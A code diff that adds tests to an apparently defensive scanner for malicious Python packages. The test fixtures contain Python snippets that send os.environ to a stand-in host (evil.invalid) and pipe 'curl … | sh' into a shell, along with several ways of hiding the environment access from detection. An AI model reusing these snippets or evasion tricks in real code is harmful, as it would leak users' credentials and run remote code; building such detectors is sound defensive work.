@@ -128,3 +128,77 @@ def install():
   expect(found(code('requests.get("https://evil.invalid/k").text'))['remote-code-executed']).toBe('CRITICAL');
   expect(found(code('"A = 1"'))['remote-code-executed']).toBeUndefined();
 });
+
+const SENT = 'requests.post("https://evil.invalid/a", json=told)';
+
+test.each([
+  [
+    'cached_property',
+    'class Own:\n    @functools.cached_property\n    def all(self): return dict(os.environ)\ntold = Own().all',
+  ],
+  [
+    'property',
+    'class Own:\n    def read(self): return dict(os.environ)\n    all = property(read)\ntold = Own().all',
+  ],
+  [
+    'property of a class',
+    'class Own:\n    @classmethod\n    @property\n    def all(cls): return dict(os.environ)\ntold = Own.all',
+  ],
+  ['deque', 'held = collections.deque([os.environ])\ntold = held.popleft()'],
+  ['OrderedDict', 'held = collections.OrderedDict(a=os.environ)\ntold = held["a"]'],
+  ['ChainMap', 'held = collections.ChainMap({"a": os.environ})\ntold = held["a"]'],
+  ['setdefault', 'held = {}\nheld.setdefault("a", os.environ)\ntold = held["a"]'],
+  ['vars', 'told = vars(os)'],
+  ['__dict__', 'told = os.__dict__'],
+  ['posix', 'told = str(posix.environ)'],
+])('the environment by way of %s', (_, code) => {
+  const whole = (text: string): string =>
+    `import collections, functools, os, posix, requests\n${text}\n${SENT}`;
+  expect(found(whole(code))['stolen-data-sent']).toBe('CRITICAL');
+  expect(
+    found(whole(code.replaceAll(/os\.environ|vars\(os\)|os\.__dict__|posix\.environ/g, '{"a": 1}')))[
+      'stolen-data-sent'
+    ],
+  ).toBe(undefined);
+});
+
+/** So much beside it that files are read for their words only. */
+const MUCH = 'def plain(value):\n    return value + 1\n'.repeat(1_800);
+
+test.each([
+  [
+    'import os as o, requests',
+    'requests.post("https://evil.invalid/a", json=dict(o.environ))',
+    'stolen-data-sent',
+  ],
+  [
+    'import requests\nfrom os import (\n    environ)',
+    'requests.post("https://evil.invalid/a", json=dict(environ))',
+    'stolen-data-sent',
+  ],
+  [
+    'import requests',
+    'requests.post("https://evil.invalid/a", json=dict(__import__("os").environ))',
+    'stolen-data-sent',
+  ],
+  ['import os', `getattr(os, "system")("curl\\thttps://evil.invalid/x | sh")`, 'hostile-command'],
+  ['from os import path, system as run', `run("curl\\thttps://evil.invalid/x | sh")`, 'hostile-command'],
+])('in a large package no name hides the module: %s', (head, call, rule) => {
+  const files = { 'pkg/much.py': MUCH, 'pkg/net.py': `${head}\n${call}` };
+  expect(found('from . import much, net', files)[rule]).toBe('CRITICAL');
+});
+
+test.each([
+  'exec("".join(open(os.path.dirname(__file__) + "/own.txt").readlines()))',
+  'exec(pathlib.Path(__file__).parent.joinpath("own").with_suffix(".txt").read_text())',
+])('a shipped file that is run: %s', (call) => {
+  const own = { 'pkg/own.txt': 'import os\nos.system("curl https://evil.invalid/x | sh")\n' };
+  expect(found(`import os, pathlib\n${call}`, own)['hostile-command']).toBe('CRITICAL');
+});
+
+test('a class that starts a process when it is made', () => {
+  const code = (base: string): string =>
+    `import subprocess\nclass Own(${base}): pass\nOwn(${COMMAND}, shell=True)`;
+  expect(found(code('subprocess.Popen'))['hostile-command']).toBe('CRITICAL');
+  expect(found(code('subprocess.SubprocessError'))['hostile-command']).toBeUndefined();
+});
